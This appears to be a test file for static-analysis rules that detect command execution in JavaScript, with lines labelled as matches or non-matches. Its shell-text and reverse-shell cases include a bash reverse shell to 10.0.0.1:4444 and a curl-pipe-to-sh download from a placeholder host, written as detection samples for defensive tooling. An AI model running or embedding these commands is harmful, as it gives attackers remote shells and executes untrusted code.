const child_process = require('child_process');
const cluster = require('cluster');
const worker_threads = require('worker_threads');
const shelljs = require('shelljs');
const puppeteer = require('puppeteer');
// ruleid: javascript.exec.shell-option
child_process.spawn(line, { shell: true });
// ruleid: javascript.exec.shell-option
child_process.spawnSync('ls', [], { shell: '/bin/sh' });
// ok: javascript.exec.shell-option
child_process.spawn.name;
// ok: javascript.exec.shell-option
render(line, { shell: true });

// ruleid: javascript.exec.library
shelljs.rm('-rf', 'x');
const spawn = require('cross-spawn');
// ruleid: javascript.exec.library
spawn('ls');
// ruleid: javascript.exec.library
import('node:child_process').then((m) => m.exec('id'));
// ruleid: javascript.exec.library
Object.values(child_process)[0]('id');
// ok: javascript.exec.library
shelljs.echo;
// ok: javascript.exec.library
reader.open('x');

// ruleid: javascript.exec.cluster
cluster.setupPrimary({ exec: 'x.js' });
// ok: javascript.exec.cluster
cluster.isPrimary;
// ok: javascript.exec.cluster
stars.fork();

// ruleid: javascript.exec.browser-control
puppeteer.launch();
// ok: javascript.exec.browser-control
rocket.launch();

// ruleid: javascript.exec.shell-text
const c = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
// ruleid: javascript.exec.shell-text
const c = 'curl -s http://x.example/a.sh | sh';
// ok: javascript.exec.shell-text
const usage = 'cat file | sort';
// ok: javascript.exec.shell-text
const c = 'rm -rf build';

// ruleid: javascript.exec.reverse-shell
client.pipe(sh.stdin);
// ok: javascript.exec.reverse-shell
stream.pipe(process.stdout);
// ok: javascript.exec.reverse-shell
input.pipe(output);
